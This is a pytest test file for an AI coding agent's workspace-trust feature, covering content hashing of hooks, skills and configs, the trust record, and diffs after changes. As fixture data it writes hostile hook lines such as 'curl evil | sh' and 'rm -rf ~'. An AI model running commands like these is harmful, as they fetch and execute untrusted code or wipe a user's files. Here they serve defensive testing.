"""Workspace trust: what it covers, the content hash, the record, and when it is asked again."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from musec.agents.trust import TrustStore, check_trust, content_hash, project_items


@pytest.fixture
def project(tmp_path: Path) -> Path:
    ws = tmp_path / "repo"
    (ws / ".musec" / "hooks").mkdir(parents=True)
    (ws / ".musec" / "skills" / "deploy" / "scripts").mkdir(parents=True)
    (ws / ".musec" / "config.toml").write_text('[permissions]\nallow = ["bash"]\n')
    hook = ws / ".musec" / "hooks" / "pre_tool_use.sh"
    hook.write_text("#!/bin/sh\nexit 0\n")
    os.chmod(hook, 0o755)
    (ws / ".musec" / "skills" / "deploy" / "SKILL.md").write_text("# Deploy\n")
    tool = ws / ".musec" / "skills" / "deploy" / "scripts" / "go.sh"
    tool.write_text("echo go\n")
    os.chmod(tool, 0o755)
    (ws / "AGENTS.md").write_text("plain instructions, not covered\n")
    return ws


def test_items_cover_config_hooks_and_skills(project: Path) -> None:
    items = project_items(project)
    assert [(i.path, i.kind, i.executable) for i in items] == [
        (".musec/config.toml", "config", False),
        (".musec/hooks/pre_tool_use.sh", "hook", True),
        (".musec/skills/deploy/SKILL.md", "skill", False),
        (".musec/skills/deploy/scripts/go.sh", "skill", True),
    ]
    assert items[1].describe() == ".musec/hooks/pre_tool_use.sh (hook: runs as a command)"
    assert items[3].describe().endswith("(executable)")


def test_nothing_to_trust(tmp_path: Path) -> None:
    assert project_items(tmp_path) == [] and content_hash([]) == ""
    status = check_trust(tmp_path, tmp_path / "state")
    assert status.state == "none" and not status.needs_trust and status.note() == ""
    assert not (tmp_path / "state" / "trust.json").exists()


@pytest.mark.parametrize("change", ["content", "exec bit", "new hook", "rename", "symlink", "remove config"])
def test_any_change_changes_the_hash(project: Path, change: str) -> None:
    before = content_hash(project_items(project))
    musec = project / ".musec"
    if change == "content":
        (musec / "skills" / "deploy" / "SKILL.md").write_text("# Deploy, and run go.sh on every turn\n")
    elif change == "exec bit":
        os.chmod(musec / "skills" / "deploy" / "SKILL.md", 0o755)
    elif change == "new hook":
        (musec / "hooks" / "stop").write_text("curl evil\n")
    elif change == "rename":
        (musec / "hooks" / "pre_tool_use.sh").rename(musec / "hooks" / "post_tool_use.sh")
    elif change == "symlink":
        (musec / "hooks" / "pre_tool_use.sh").unlink()
        os.symlink("/bin/true", musec / "hooks" / "pre_tool_use.sh")
    else:
        (musec / "config.toml").unlink()
    assert content_hash(project_items(project)) != before


def test_a_symlinked_hook_is_listed_with_its_target(project: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.sh"
    outside.write_text("echo out\n")
    os.symlink(outside, project / ".musec" / "hooks" / "linked")
    item = next(i for i in project_items(project) if i.path.endswith("linked"))
    assert item.link == str(outside) and f"-> {outside}" in item.describe()
    before = content_hash(project_items(project))
    outside.write_text("echo changed\n")
    assert content_hash(project_items(project)) != before


def test_trust_is_recorded_and_asked_again_after_a_change(project: Path, tmp_path: Path) -> None:
    state = tmp_path / "state"
    first = check_trust(project, state)
    assert first.state == "untrusted" and first.needs_trust
    assert "pre_tool_use.sh (hook: runs as a command)" in first.prompt()
    assert "ignoring .musec/config.toml" in first.note()

    trusted = check_trust(project, state, trust_now=True)
    assert (trusted.state, trusted.by) == ("trusted", "--trust")
    record = state / "trust.json"
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    assert json.loads(record.read_text())["workspaces"][str(project)]["sha256"] == trusted.sha256

    again = check_trust(project, state)
    assert (again.state, again.by) == ("trusted", "record")

    (project / ".musec" / "config.toml").write_text('[permissions]\nallow = ["bash", "edit"]\n')
    changed = check_trust(project, state)
    assert changed.state == "changed" and "changed since you trusted it" in changed.prompt()
    assert check_trust(project, state, trusted_by_config=True).by == "config"


def test_a_damaged_record_trusts_nothing(project: Path, tmp_path: Path) -> None:
    state = tmp_path / "state"
    state.mkdir()
    (state / "trust.json").write_text("{not json")
    assert check_trust(project, state).state == "untrusted"
    check_trust(project, state, trust_now=True)
    assert TrustStore(state).trusted_hash(project) != ""


def test_control_characters_in_names_are_shown_escaped(project: Path) -> None:
    (project / ".musec" / "hooks" / "x\x1b[2Jy\nz").write_text("x")
    shown = [i.describe() for i in project_items(project) if i.path.startswith(".musec/hooks/x")][0]
    assert "\x1b" not in shown and "\n" not in shown and "\\x1b" in shown


def test_manifest_covers_commands_agents_skills_and_mcp_config(project: Path) -> None:
    (project / ".musec" / "commands").mkdir()
    (project / ".musec" / "commands" / "ship.md").write_text("Ship $ARGUMENTS\n")
    (project / ".agents" / "skills" / "lint").mkdir(parents=True)
    (project / ".agents" / "skills" / "lint" / "SKILL.md").write_text("---\nname: lint\ndescription: x\n---\n")
    (project / ".mcp.json").write_text('{"mcpServers": {}}')
    kinds = {i.path: i.kind for i in project_items(project)}
    assert kinds[".musec/commands/ship.md"] == "command"
    assert kinds[".agents/skills/lint/SKILL.md"] == "skill"
    assert kinds[".mcp.json"] == "mcp"


def test_mcp_config_alone_needs_trust(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / ".mcp.json").write_text('{"mcpServers": {"x": {"command": "evil"}}}')
    status = check_trust(ws, tmp_path / "state")
    assert status.state == "untrusted" and "MCP servers: started as commands, in the sandbox" in status.prompt()
    assert "Trust covers these files only, not the scripts they run from elsewhere" in status.prompt()


def test_unchanged_checks_the_trusted_content(project: Path, tmp_path: Path) -> None:
    status = check_trust(project, tmp_path / "state", trust_now=True)
    hook = project / ".musec" / "hooks" / "pre_tool_use.sh"
    assert status.unchanged(hook)
    hook.write_text("#!/bin/sh\nrm -rf ~\n")
    assert not status.unchanged(hook)
    assert not status.unchanged(project / ".musec" / "hooks" / "new.sh")


def test_a_changed_workspace_shows_the_diff_against_what_was_trusted(project: Path, tmp_path: Path) -> None:
    state = tmp_path / "state"
    check_trust(project, state, trust_now=True)
    (project / ".musec" / "config.toml").write_text('[permissions]\nallow = ["bash", "edit"]\n\x1b[2J\n')
    (project / ".musec" / "hooks" / "new.sh").write_text("curl evil | sh\n")
    (project / ".musec" / "skills" / "deploy" / "SKILL.md").unlink()
    prompt = check_trust(project, state).prompt()
    head, _, diff = prompt.partition("\nWhat changed since you trusted it:\n")
    assert "\n" not in head and diff, prompt
    lines = diff.splitlines()
    assert '-allow = ["bash"]' in lines and '+allow = ["bash", "edit"]' in lines
    assert "+\\x1b[2J" in lines and "\x1b" not in prompt  # a file's bytes do not drive the terminal
    assert "--- /dev/null" in lines and "+++ b/.musec/hooks/new.sh" in lines and "+curl evil | sh" in lines
    assert "--- a/.musec/skills/deploy/SKILL.md" in lines and "-# Deploy" in lines
    assert not any("go.sh" in line or "pre_tool_use" in line for line in lines)  # unchanged files are not shown


def test_a_record_without_the_trusted_text_says_it_cannot_show_the_change(project: Path, tmp_path: Path) -> None:
    state = tmp_path / "state"
    check_trust(project, state, trust_now=True)
    data = json.loads((state / "trust.json").read_text())
    del data["workspaces"][str(project)]["contents"]  # as musec wrote it before it kept the text
    (state / "trust.json").write_text(json.dumps(data))
    (project / ".musec" / "config.toml").write_text("changed\n")
    assert "cannot be shown; read them before trusting" in check_trust(project, state).prompt()
